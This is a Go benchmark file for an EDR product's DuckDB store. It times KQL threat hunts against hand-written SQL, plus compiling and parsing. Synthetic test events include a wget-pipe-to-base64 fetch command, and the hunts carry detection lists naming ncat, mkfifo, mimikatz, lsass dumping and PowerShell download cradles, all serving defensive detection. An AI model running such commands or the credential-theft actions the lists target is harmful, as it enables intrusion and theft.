package duckdb

import (
	"context"
	"fmt"
	"hash/fnv"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/vedette-edr/vedette/kql"
	"github.com/vedette-edr/vedette/kql/bind"
	"github.com/vedette-edr/vedette/kql/plan"
	"github.com/vedette-edr/vedette/kql/sqlgen"
	"github.com/vedette-edr/vedette/kql/syntax"
	"github.com/vedette-edr/vedette/kql/types"
	"github.com/vedette-edr/vedette/schema"
	"github.com/vedette-edr/vedette/schema/event"
	"github.com/vedette-edr/vedette/server/telemetry"
)

// published shows the hunting tables of package schema to the binder.
type published struct{}

func (published) Table(name string) (*bind.Table, bool) {
	t, ok := schema.Lookup(name)
	if !ok || t.Base != "" {
		return nil, false
	}
	out := &bind.Table{Name: name}
	for _, c := range t.Columns {
		out.Columns = append(out.Columns, bind.Column{Name: c.Name, Type: c.Type, Source: c.Source, Hidden: c.Hidden, JSONString: c.JSON})
	}
	return out, true
}

func (published) TableNames() (names []string) {
	for _, t := range schema.Tables() {
		names = append(names, t.Name)
	}
	return names
}

// storedTables are the hunting tables that these benchmarks keep.
func storedTables() (out []telemetry.Table) {
	for _, name := range []string{"DeviceProcessEvents", "DeviceNetworkEvents", "DeviceLogonEvents"} {
		t, _ := schema.Lookup(name)
		table := telemetry.Table{Name: name}
		for _, c := range t.Columns {
			if c.Stored() {
				table.Columns = append(table.Columns, telemetry.Column{Name: c.Name, Type: c.Type})
			}
		}
		out = append(out, table)
	}
	return out
}

// pair is a hunt, and the same written by hand for DuckDB: %[1]s, %[2]s and %[3]s are the
// files of processes, network events and logons.
type pair struct{ name, kql, sql string }

// term is how a person writes "has": a word within a text.
func term(column string, words ...string) string {
	return fmt.Sprintf(`regexp_matches(lower(%s), '(^|[^\pL\p{Nd}])(%s)($|[^\pL\p{Nd}])')`, column, strings.Join(words, "|"))
}

var hunts = []pair{
	{"count by device", `DeviceProcessEvents | where FileName =~ "CURL" | summarize n = count() by DeviceName | top 10 by n, DeviceName asc`,
		`SELECT DeviceName, count(*) n FROM %[1]s WHERE lower(FileName) = 'curl' GROUP BY 1 ORDER BY n DESC, DeviceName LIMIT 10`},
	{"one word", `DeviceProcessEvents | where ProcessCommandLine has "needle" | project Timestamp, DeviceName, FileName, ProcessCommandLine, InitiatingProcessFileName | top 100 by Timestamp`,
		`SELECT Timestamp, DeviceName, FileName, ProcessCommandLine, InitiatingProcessFileName FROM %[1]s WHERE ` + term("ProcessCommandLine", "needle") + ` ORDER BY Timestamp DESC LIMIT 100`},
	{"any of words", `DeviceProcessEvents | where ProcessCommandLine has_any ("wget", "ncat", "mkfifo") | summarize n = count() by InitiatingProcessFileName | sort by n desc`,
		`SELECT InitiatingProcessFileName, count(*) n FROM %[1]s WHERE ` + term("ProcessCommandLine", "wget", "ncat", "mkfifo") + ` GROUP BY 1 ORDER BY n DESC`},
	{"an address over time", `DeviceNetworkEvents | where Timestamp > datetime(2026-11-01) and RemoteIP == "198.51.100.7" | summarize devices = dcount(DeviceId), first = min(Timestamp), last = max(Timestamp) by bin(Timestamp, 1h)`,
		`SELECT Timestamp // 36000000000 * 36000000000 AS hour, count(DISTINCT DeviceId), min(Timestamp), max(Timestamp) FROM %[2]s WHERE Timestamp > 639290880000000000 AND RemoteIP = '198.51.100.7' GROUP BY 1`},
	{"processes with their connections", `DeviceProcessEvents | where FileName in~ ("ssh", "scp") | join kind=inner (DeviceNetworkEvents | where RemotePort == 22) on DeviceId, $left.ProcessId == $right.InitiatingProcessId | summarize n = count() by FileName, RemoteIP | top 20 by n, RemoteIP asc`,
		`SELECT p.FileName, n.RemoteIP, count(*) n FROM %[1]s p JOIN %[2]s n ON p.DeviceId = n.DeviceId AND p.ProcessId = n.InitiatingProcessId WHERE lower(p.FileName) IN ('ssh', 'scp') AND n.RemotePort = 22 GROUP BY 1, 2 ORDER BY 3 DESC, 2 LIMIT 20`},
	{"failed logons", `DeviceLogonEvents | where ActionType == "LogonFailed" | summarize failures = count(), accounts = dcount(AccountName) by DeviceName | where failures > 5 | sort by failures desc, DeviceName asc`,
		`SELECT DeviceName, count(*) f, count(DISTINCT AccountName) FROM %[3]s WHERE ActionType = 'LogonFailed' GROUP BY 1 HAVING count(*) > 5 ORDER BY f DESC, DeviceName`},
	{"latest of each device", `DeviceProcessEvents | where FileName =~ "curl" | summarize arg_max(Timestamp, DeviceName, FileName, FolderPath, SHA1, ProcessId, ProcessCommandLine, AccountName, InitiatingProcessFileName, InitiatingProcessCommandLine) by DeviceId`,
		`SELECT DeviceId, Timestamp, DeviceName, FileName, FolderPath, SHA1, ProcessId, ProcessCommandLine, AccountName, InitiatingProcessFileName, InitiatingProcessCommandLine FROM %[1]s WHERE lower(FileName) = 'curl' QUALIFY row_number() OVER (PARTITION BY DeviceId ORDER BY Timestamp DESC) = 1`},
	{"a pattern", `DeviceProcessEvents | where ProcessCommandLine matches regex @"(?i)base64\s+(-d|--decode)" | summarize n = count() by AccountName`,
		`SELECT AccountName, count(*) FROM %[1]s WHERE regexp_matches(ProcessCommandLine, '(?i)base64\s+(-d|--decode)') GROUP BY 1`},
	{"members of JSON", `DeviceProcessEvents | where FileName == "bash" | extend depth = toint(AdditionalFields.Depth) | where depth > 3 | summarize n = count() by depth`,
		`SELECT TRY_CAST(json_extract_string(AdditionalFields, '$.Depth') AS INTEGER) depth, count(*) FROM %[1]s WHERE FileName = 'bash' AND TRY_CAST(json_extract_string(AdditionalFields, '$.Depth') AS INTEGER) > 3 GROUP BY 1`},
	{"rare programs", `DeviceProcessEvents | where FolderPath !startswith "/usr/" | summarize devices = dcount(DeviceId), names = make_set(FileName) by SHA256 | where devices < 3`,
		`SELECT SHA256, count(DISTINCT DeviceId), list(DISTINCT FileName) FROM %[1]s WHERE NOT starts_with(lower(FolderPath), '/usr/') GROUP BY 1 HAVING count(DISTINCT DeviceId) < 3`},
}

// huntRows is how many rows the benchmark of hunts reads, VEDETTE_ROWS or ten million.
func huntRows() int {
	if n, err := strconv.Atoi(os.Getenv("VEDETTE_ROWS")); err == nil && n > 0 {
		return n
	}
	return 10_000_000
}

// fill stores n events of many devices as they come from agents, in real segments.
func fillHunts(b *testing.B, s *Store, n int) {
	const perBatch = 20_000
	names := []string{"bash", "curl", "ssh", "scp", "python3", "cron", "systemd", "sshd", "wget", "apt-get", "ls", "cat", "grep", "node", "java"}
	start := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	step := 20 * 24 * time.Hour / time.Duration(n)
	var images []event.File
	for i := range 3000 {
		dir := "/usr/bin/"
		if i%10 == 0 {
			dir = fmt.Sprintf("/opt/app%d/", i)
		}
		images = append(images, event.File{Name: names[i%len(names)], Path: dir + names[i%len(names)], SHA256: fmt.Sprintf("%064x", i), SHA1: fmt.Sprintf("%040x", i), MD5: fmt.Sprintf("%032x", i), Size: int64(1000 + i)})
	}
	for at, seq := 0, uint64(1); at < n; seq++ {
		device := int(seq) % 500
		batch := wrap(tenantA, device, seq, load{})
		parent := &event.Process{PID: 7, Start: start, CommandLine: "/bin/sh -c run", Image: images[device], Account: event.Account{Name: "svc"}}
		for i := range min(perBatch, n-at) {
			k := at + i
			e := &event.Event{Time: start.Add(time.Duration(k) * step), Initiating: parent}
			switch {
			case k%10 < 6:
				e.Table, e.Action = event.ProcessEvents, "ProcessCreated"
				line := fmt.Sprintf("%s --id %d --path /var/lib/data/%d/file.txt --verbose", names[k%len(names)], k, k%977)
				switch {
				case k%5000 == 0:
					line += " needle in the haystack"
				case k%700 == 0:
					line = "sh -c 'wget http://198.51.100.7/x | base64 -d'"
				}
				e.Process = &event.Process{PID: uint32(k % 5000), Start: e.Time, CommandLine: line, Image: images[k*7%len(images)], Account: event.Account{Name: names[k%5]}}
				if k%3 == 0 {
					e.Additional = fmt.Sprintf(`{"Depth":%d,"Session":"%d"}`, k/7%10, k%100)
				}
				if k%5000 == 0 { // a program on one or two devices
					e.Process.Image = event.File{Name: "rare", Path: fmt.Sprintf("/opt/rare%d", k/10000), SHA256: fmt.Sprintf("f%063x", k/10000)}
				}
			case k%10 < 9:
				e.Table, e.Action = event.NetworkEvents, "ConnectionSuccess"
				e.Initiating = &event.Process{PID: uint32((k - 6) % 5000), Image: images[k%len(images)], Account: event.Account{Name: "root"}}
				e.Network = &event.Network{RemoteIP: fmt.Sprintf("198.51.100.%d", k%250), RemotePort: uint16([]int{443, 80, 22, 53}[k/10%4]), LocalIP: "192.0.2.1", LocalPort: uint16(k), Protocol: "Tcp"}
			default:
				e.Table, e.Action = event.LogonEvents, []string{"LogonSuccess", "LogonSuccess", "LogonFailed"}[k/10%3]
				e.Account, e.Logon = &event.Account{Name: names[k%11]}, &event.Logon{Type: "Network", RemoteIP: "192.0.2.9"}
			}
			batch.Events = append(batch.Events, e)
		}
		at += len(batch.Events)
		mustAppend(b, s, batch)
	}
	for s.Status().JournalSize > 0 {
		time.Sleep(100 * time.Millisecond)
	}
}

// BenchmarkHunts runs each hunt and its hand-written twin in turn, in the same worker on
// the same segments, checks that they answer alike, and reports how much longer the
// generated SQL takes: overhead is the ratio of the sums of the least processor times, because
// other work on the machine tells less in them than in the clock's.
func BenchmarkHunts(b *testing.B) {
	cfg := testConfig(b.TempDir())
	cfg.Tables, cfg.CutEvery, cfg.MergeEvery = storedTables(), 200*time.Millisecond, 2*time.Second
	s := openStore(b, cfg)
	n := huntRows()
	begin := time.Now()
	fillHunts(b, s, n)
	for idle, last := 0, -1; idle < 4; { // until nothing is left to be merged
		time.Sleep(3 * time.Second)
		if now := s.Status().Segments; now != last {
			idle, last = 0, now
		} else {
			idle++
		}
	}
	b.Logf("%d rows in %d segments after %v", n, s.Status().Segments, time.Since(begin).Round(time.Second))
	var all, hand time.Duration
	for _, h := range hunts {
		q, err := kql.Compile(h.kql, published{}, kql.Options{Now: types.FromTime(time.Date(2026, 11, 21, 0, 0, 0, 0, time.UTC))})
		if err != nil {
			b.Fatal(err)
		}
		ours := s.statement(&telemetry.Query{Tenant: tenantA}, q.Root, nil)
		theirs := &statement{tenant: tenantA, columns: ours.columns, sql: func(sn *snapshot) (string, error) {
			var from []any
			for _, t := range storedTables() {
				from = append(from, "read_parquet(['"+strings.Join(sn.paths(sn.list(t.Name, timeRange{0, types.MaxDatetime}, timeRange{0, types.MaxDatetime})), "', '")+"'])")
			}
			for i, c := range ours.columns { // lists of texts are JSON to us
				if c == types.Dynamic {
					return fmt.Sprintf("SELECT * REPLACE (to_json("+lastName(i)+") AS "+lastName(i)+") FROM ("+h.sql+") t", from...), nil
				}
			}
			return fmt.Sprintf(h.sql, from...), nil
		}}
		least, cpu := map[*statement]time.Duration{ours: time.Hour, theirs: time.Hour}, map[*statement]time.Duration{ours: time.Hour, theirs: time.Hour}
		count, sum := map[*statement]int{}, map[*statement]uint64{}
		for range 5 {
			for _, st := range []*statement{ours, theirs} {
				rows, total := 0, uint64(0)
				used, err := s.execute(context.Background(), st, func(row []types.Value) error { rows, total = rows+1, total+checksum(row); return nil })
				if err != nil {
					b.Fatalf("%s: %v", h.name, err)
				}
				least[st], cpu[st] = min(least[st], used.Running), min(cpu[st], used.CPUUser+used.CPUKernel)
				count[st], sum[st] = rows, total
			}
		}
		switch {
		case count[ours] == 0:
			b.Errorf("%s: no rows", h.name)
		case count[ours] != count[theirs] || sum[ours] != sum[theirs]:
			b.Errorf("%s: %d rows of sum %x, by hand %d of %x", h.name, count[ours], sum[ours], count[theirs], sum[theirs])
		}
		all, hand = all+cpu[ours], hand+cpu[theirs]
		b.Logf("%-34s %7.0f ms of processor, by hand %7.0f ms: %.2f (%d rows; clock %.0f and %.0f ms)", h.name, cpu[ours].Seconds()*1e3, cpu[theirs].Seconds()*1e3, cpu[ours].Seconds()/cpu[theirs].Seconds(), count[ours], least[ours].Seconds()*1e3, least[theirs].Seconds()*1e3)
	}
	b.ReportMetric(float64(all)/float64(hand), "overhead")
	b.ReportMetric(0, "ns/op")
}

// checksum is a hash of a row; sums of them tell answers apart whatever their order. Lists
// are sets here.
func checksum(row []types.Value) uint64 {
	h := fnv.New64a()
	for _, v := range row {
		text := v.Text()
		if list, ok := v.D.([]any); ok && v.Type == types.Dynamic {
			var parts []string
			for _, e := range list {
				parts = append(parts, fmt.Sprint(e))
			}
			slices.Sort(parts)
			text = strings.Join(parts, "\x00")
		}
		fmt.Fprintf(h, "%d:%s", len(text), text)
	}
	return h.Sum64()
}

// lastName is the name of the column that holds a list in the hand-written statements.
func lastName(int) string { return `"list(DISTINCT FileName)"` }

// median are hunts of the size and shape that public ones have in the middle: four
// operators, a let, a list of words, an aggregate.
var median = []string{
	`DeviceProcessEvents
| where Timestamp > ago(7d)
| where FileName in~ ("powershell.exe", "pwsh.exe") and ProcessCommandLine has_any ("DownloadString", "IEX", "EncodedCommand")
| extend Encoded = extract(@"-[eE][a-zA-Z]*\s+([A-Za-z0-9+/=]{20,})", 1, ProcessCommandLine)
| project Timestamp, DeviceName, AccountName, FileName, ProcessCommandLine, Encoded, InitiatingProcessFileName
| sort by Timestamp desc`,
	`let suspicious = dynamic(["mimikatz", "procdump", "lsass"]);
DeviceProcessEvents
| where Timestamp > ago(30d)
| where ProcessCommandLine has_any (suspicious) or FileName =~ "rundll32.exe" and ProcessCommandLine contains "comsvcs"
| summarize count(), make_set(ProcessCommandLine, 100), arg_max(Timestamp, *) by DeviceId, DeviceName
| where count_ > 1`,
	`let timeframe = 24h;
let rare = DeviceNetworkEvents
| where Timestamp > ago(timeframe) and RemotePort in (4444, 8080, 1337)
| summarize devices = dcount(DeviceId) by RemoteIP
| where devices < 3;
DeviceNetworkEvents
| where Timestamp > ago(timeframe)
| join kind=inner rare on RemoteIP
| extend Url = tostring(parse_url(RemoteUrl).Host)
| project Timestamp, DeviceName, RemoteIP, Url, InitiatingProcessFileName, devices`,
	`DeviceLogonEvents
| where Timestamp > ago(1d) and ActionType == "LogonFailed" and isnotempty(RemoteIP)
| summarize Failures = count(), Accounts = dcount(AccountName), First = min(Timestamp), Last = max(Timestamp) by RemoteIP, bin(Timestamp, 1h)
| where Failures > 20
| order by Failures desc`,
	`DeviceLogonEvents
| where LogonType == "RemoteInteractive" and ActionType == "LogonSuccess"
| extend Hour = datetime_part("hour", Timestamp), Private = ipv4_is_private(RemoteIP)
| where Hour !between (7 .. 19) and not(Private)
| summarize Devices = make_set(DeviceName), Logons = count() by AccountName, AccountDomain, RemoteIP
| top 50 by Logons`,
}

// BenchmarkCompile reports how long texts of median size take from text to SQL.
func BenchmarkCompile(b *testing.B) {
	var times []time.Duration
	opt := kql.Options{Now: types.FromTime(time.Date(2026, 11, 21, 0, 0, 0, 0, time.UTC))}
	for _, text := range median { // what is made once for a process
		if _, err := kql.Compile(text, published{}, opt); err != nil {
			b.Fatalf("%v\n%s", err, text)
		}
	}
	for i := range b.N {
		begin := time.Now()
		q, err := kql.Compile(median[i%len(median)], published{}, opt)
		if err != nil {
			b.Fatal(err)
		}
		if _, _, err := sqlgen.Generate(q.Root, noFiles{}); err != nil {
			b.Fatal(err)
		}
		times = append(times, time.Since(begin))
	}
	slices.Sort(times)
	b.ReportMetric(times[len(times)/2].Seconds()*1e3, "p50-ms")
	b.ReportMetric(times[len(times)*99/100].Seconds()*1e3, "p99-ms")
}

// BenchmarkParse reports how fast texts become trees.
func BenchmarkParse(b *testing.B) {
	text := ""
	for len(text) < 200_000 { // hunts one after the other, as in a file of them
		text += strings.Join(median, ";\n") + ";\n"
	}
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		if _, errs := syntax.Parse(text); len(errs) > 0 {
			b.Fatal(errs)
		}
	}
}

// noFiles has one file for each table.
type noFiles struct{}

// Source implements sqlgen.Sources.
func (noFiles) Source(*plan.Scan) (sqlgen.Source, error) {
	return sqlgen.Source{Files: []string{"/data/1.parquet"}}, nil
}
